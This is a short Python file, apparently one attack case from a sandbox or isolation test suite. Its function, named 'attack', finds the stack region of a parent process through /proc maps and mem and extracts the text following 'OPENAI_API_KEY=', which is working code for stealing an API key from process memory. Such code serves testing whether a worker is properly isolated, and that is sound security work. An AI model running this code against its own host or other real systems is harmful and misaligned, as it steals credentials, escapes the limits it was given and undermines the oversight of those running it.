"""Reads the worker's memory, as /proc shows it, for its keys."""


def attack(world):
    stack = next(line for line in open(f"/proc/{world['parent']}/maps") if "[stack]" in line)
    begin, end = (int(one, 16) for one in stack.split()[0].split("-"))
    with open(f"/proc/{world['parent']}/mem", "rb") as memory:
        memory.seek(begin)
        data = memory.read(end - begin)
    place = data.find(b"OPENAI_API_KEY=")
    return data[place : place + 200].decode(errors="replace")
